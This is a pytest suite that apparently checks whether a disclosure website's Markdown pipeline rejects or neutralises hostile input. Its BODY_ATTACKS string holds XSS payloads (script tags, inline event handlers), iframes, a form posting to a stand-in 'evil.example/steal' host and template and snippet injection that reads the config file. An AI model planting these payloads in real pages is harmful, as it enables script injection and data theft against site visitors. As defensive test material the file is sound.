"""Hostile disclosures: every attack gives a clear, located error or is neutralised on the site."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from macros.frontmatter import MAX_FILE_BYTES
from macros.registry import load_registry
from registry_builder import COMPANY_YML, ZH, ZH_PAGE, variant, write_tree
from test_site_build import build, make_project

HOSTILE = Path(__file__).parent / "hostile"
EXPECTED = yaml.safe_load((HOSTILE / "expected.yml").read_text(encoding="utf-8"))


def problems_for(tmp_path: Path, zh: str | bytes) -> set[tuple[str, int]]:
    write_tree(tmp_path, variant(zh=zh, en=None))
    return {(d.code, d.line) for d in load_registry(tmp_path).errors}


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_hostile_front_matter_is_rejected_at_its_line(tmp_path, name):
    found = problems_for(tmp_path, (HOSTILE / name).read_bytes())
    expected = EXPECTED[name]
    assert (expected["code"], expected["line"]) in found, sorted(found)


def test_the_corpus_has_an_expectation_for_every_file():
    assert {p.name for p in HOSTILE.glob("*.md")} == set(EXPECTED)


def test_a_python_tag_never_runs(tmp_path):
    marker = Path("/tmp/pwned")
    marker.unlink(missing_ok=True)
    problems_for(tmp_path, (HOSTILE / "python-tag.zh.md").read_bytes())
    subprocess.run([sys.executable, "-m", "macros", "check"], cwd=tmp_path, capture_output=True, timeout=60)
    assert not marker.exists()


def test_non_utf8_bytes_name_the_offset(tmp_path):
    raw = b'---\ntitle: "\xe5\x85\xac\xff\xfe"\n---\n'
    write_tree(tmp_path, variant(zh=raw, en=None))
    [problem] = load_registry(tmp_path).errors
    assert (problem.code, problem.line) == ("CSR100", 2) and "byte offset 15" in problem.message("en")


def test_oversized_file_is_rejected_before_parsing(tmp_path):
    found = problems_for(tmp_path, ZH_PAGE + "x" * MAX_FILE_BYTES)
    assert ("CSR109", 1) in found


def test_symlinked_disclosure_is_rejected(tmp_path):
    secret = tmp_path.parent / f"{tmp_path.name}-secret.md"
    secret.write_text(ZH_PAGE, encoding="utf-8")
    write_tree(tmp_path, {"disclosures/acme/company.yml": COMPANY_YML})
    os.symlink(secret, tmp_path / ZH)
    assert ("CSR404", 0) in {(d.code, d.line) for d in load_registry(tmp_path).errors}


def test_cli_reports_hostile_input_without_traceback(tmp_path):
    write_tree(tmp_path, variant(zh=(HOSTILE / "alias-bomb.zh.md").read_bytes(), en=None))
    result = subprocess.run([sys.executable, "-m", "macros", "check", "--format", "json"], cwd=tmp_path,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert json.loads(result.stdout)["errors"] >= 1


BODY_ATTACKS = """
## 攻击 {onclick="alert('attr')"}

<script>alert('script')</script>

[普通链接](https://example.org/ok){onmouseover="alert('link')"}

<iframe src="https://evil.example/frame"></iframe>

<img src="https://evil.example/track.png" onerror="alert('img')">

<style>body { display: none }</style>

<form action="https://evil.example/steal"><input name="x"></form>

模板：{{ config.extra }} {% include "mkdocs.yml" %}

--8<-- "mkdocs.yml"

<div markdown="1" onmouseenter="alert('div')">块</div>
"""


@pytest.mark.build
def test_body_attacks_are_neutralised_in_the_published_html(tmp_path):
    root = make_project(tmp_path, {"disclosures/acme/2022.zh.md": ZH_PAGE + BODY_ATTACKS})
    result = build(root)
    assert result.returncode == 0, result.stdout + result.stderr
    page = (root / "site/companies/acme/2022/index.html").read_text(encoding="utf-8")
    article = page.split("<article", 1)[1].split("</article>", 1)[0]
    assert "<script" not in article and "alert(" not in article
    assert not re.search(r"\son[a-z]+\s*=", article)
    for tag in ("<iframe", "<style", "<form", "<input name"):
        assert tag not in article
    assert "evil.example" not in article
    assert "{{ config.extra }}" in article and '{% include "mkdocs.yml" %}' in article  # shown as text
    assert "--8&lt;--" in article or "--8<--" in article
    assert "site_name" not in article  # the snippet was not included
    assert re.search(r'<a href="https://example.org/ok" rel="nofollow noopener noreferrer">', article)


def test_registry_size_cap_names_the_registry(tmp_path, monkeypatch):
    import macros.registry as registry_module

    monkeypatch.setattr(registry_module, "MAX_REGISTRY_BYTES", 1000)
    write_tree(tmp_path, variant())
    problems = [d for d in load_registry(tmp_path).errors if d.code == "CSR109"]
    assert problems and problems[0].path == "disclosures" and "registry" in problems[0].message("en")
